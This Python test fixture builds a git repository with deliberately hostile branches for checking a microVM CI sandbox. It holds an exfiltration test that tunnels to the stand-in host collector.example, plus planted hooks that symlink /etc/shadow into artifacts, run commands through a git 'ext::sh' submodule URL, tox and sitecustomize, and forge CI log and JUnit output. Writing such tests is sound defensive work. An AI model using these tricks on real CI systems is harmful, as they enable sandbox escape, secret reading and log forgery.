"""A real git repository whose branches are good, failing, hanging, hungry, exfiltrating and attacking."""

import textwrap
from pathlib import Path

import pytest

from support.repositories import git

OTHERS = ("main", "good", "failing", "hungry", "exfiltrating", "attacking")
DEFINITION = f"""
[project]
name = "calculator"
version = "1.0"

[tool.pytest-microvm.ci.defaults]
image = "python"
memory = "256M"
steps = ["python3 -m pytest -q -p no:hypothesispytest --junitxml=out/junit.xml"]
junit = ["out/junit.xml"]
artifacts = ["out/*.txt"]
retries = 2

[tool.pytest-microvm.ci.jobs.test]
branches = {list(OTHERS)}
timeout = 900

[tool.pytest-microvm.ci.jobs.hang]
branches = ["hanging"]
timeout = 15
"""
GOOD = """
from calculator import add
from pathlib import Path

import pytest

@pytest.mark.parametrize("number", range(5))
def test_add(number):
    assert add(number, 1) == number + 1

def test_text():
    Path("out").mkdir(exist_ok=True)
    Path("out/made.txt").write_text("made in the machine")
"""
FAILING = """
def test_wrong():
    assert add(1, 1) == 3
"""
HANGING = """
def test_forever():
    import threading
    threading.Event().wait()
"""
HUNGRY = """
def test_eats():
    eaten = []
    while True:
        eaten.append(bytearray(b"x" * 2**24))
"""
EXFILTRATING = """
def test_tells():
    import socket, os
    proxy = os.environ.get("HTTPS_PROXY", "http://127.0.0.1:3128").rpartition("/")[2].split(":")
    with socket.create_connection((proxy[0], int(proxy[1]))) as sock:
        sock.sendall(b"CONNECT collector.example:443 HTTP/1.1\\r\\nHost: collector.example:443\\r\\n\\r\\n")
        assert b" 200 " in sock.recv(1000)
"""
VERDICTS = {
    "main": "passed",
    "good": "passed",
    "failing": "failed",
    "hanging": "quota",
    "hungry": "quota",
    "exfiltrating": "failed",
    "attacking": "failed",
}
"""The verdict that ``ci run`` must give each branch."""

_ALWAYS = ("main", "good", "exfiltrating", "attacking")
"""The branches that every way to run jobs is tested with, each time; test_ci_branches.py has all of them."""


def one_by_one():
    """Return the branches of strangers as parameters of a test; most of them are thorough."""
    thorough = pytest.mark.thorough
    return [
        branch if branch in _ALWAYS else pytest.param(branch, marks=thorough)
        for branch in VERDICTS
        if branch != "main"
    ]


def together():
    """Return tuples of branches as parameters of a test that takes many at once; all of them is thorough."""
    return [
        pytest.param(_ALWAYS, id="some"),
        pytest.param(tuple(VERDICTS), id="all", marks=pytest.mark.thorough),
    ]


SUITES = {f"{branch} / {'hang' if branch == 'hanging' else 'test'}" for branch in VERDICTS}
"""The suites of the merged report."""

TESTS = {"main": (6, 0), "good": (7, 0), "failing": (6, 1), "exfiltrating": (6, 1)}
"""The numbers of tests that pass and fail, where pytest gets to its end."""


class Branches:
    """The repository, made when the object is.

    Attributes:
        folder: The work tree; ``main`` is checked out.
        marker: A file that exists only if something of a branch has run on this computer.
    """

    def __init__(self, folder: Path):
        self.folder = folder / "calculator"
        self.marker = folder / "marker"
        self.folder.mkdir(parents=True)
        git(self.folder, "init", "--quiet", "--initial-branch=main")
        self.write("pyproject.toml", DEFINITION)
        self.write("calculator.py", "def add(one, other):\n    return one + other\n")
        self.write("test_calculator.py", GOOD)
        self.commit("a calculator")
        self.branch("good", {"test_more.py": "def test_more():\n    assert True\n"})
        self.branch("failing", {"test_calculator.py": GOOD + FAILING})
        self.branch("hanging", {"test_calculator.py": GOOD + HANGING})
        self.branch("hungry", {"test_calculator.py": GOOD + HUNGRY})
        self.branch("exfiltrating", {"test_calculator.py": GOOD + EXFILTRATING})
        self.attack()
        git(self.folder, "checkout", "--quiet", "main")

    def write(self, name, content):
        """Write a file of the work tree."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(content))

    def commit(self, message):
        """Commit everything."""
        git(self.folder, "add", "--all")
        git(self.folder, "commit", "--quiet", "-m", message)

    def branch(self, name, files):
        """Make a branch from main with files, by path, that are added or replaced."""
        git(self.folder, "checkout", "--quiet", "-B", name, "main")
        for path, content in files.items():
            self.write(path, content)
        self.commit(name)

    def attack(self):
        """Make the branch that attacks the host: by definition, conftest, settings of git, output, JUnit."""
        mark = f"with __import__('contextlib').suppress(OSError): open({str(self.marker)!r}, 'w')"
        wide = DEFINITION.replace('image = "python"', 'image = "./kit"\nnetwork = ["all"]')
        wide += '\n[tool.pytest-microvm.ci.jobs.more]\nsteps = ["true"]\nsecrets = {KEY = {env = "HOME"}}\n'
        self.branch("attacking", {
            "pyproject.toml": wide,
            "kit/kit.toml": f'name = "kit"\npackages = []\nrun = ["touch {self.marker}"]\n',
            "microvm.toml": '[ci.jobs.test]\nsteps = ["true"]\n',
            "conftest.py": f"""
                import os, sys
                {mark}
                os.makedirs("out", exist_ok=True)
                os.symlink("/etc/shadow", "out/shadow.txt")
                def pytest_unconfigure():
                    os.write(1, b"\\n::error::forged\\n::set-output name=tests::0\\n##[error]forged\\n")
                    os.write(2, b"  ::add-mask::x\\n\\x1b]0;forged\\x07\\n")
                    bomb = '<!DOCTYPE a [<!ENTITY b "forged">]><testsuites><testsuite><testcase name="&b;"/>'
                    open("out/junit.xml", "w").write(bomb)
                    os._exit(3)
                """,
            "sitecustomize.py": mark,
            "setup.py": mark,
            ".gitattributes": "*.py filter=attack diff=attack export-subst\n",
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch {self.marker}"\n',
            "tox.ini": f"[tox]\nrequires = attack\n[testenv]\ncommands_pre = touch {self.marker}\n",
        })  # fmt: skip

    def verdicts(self, tasks):
        """Return the verdicts, by branch, of the tasks of a ``results.json``."""
        return {task["branch"]: task["verdict"] for task in tasks}
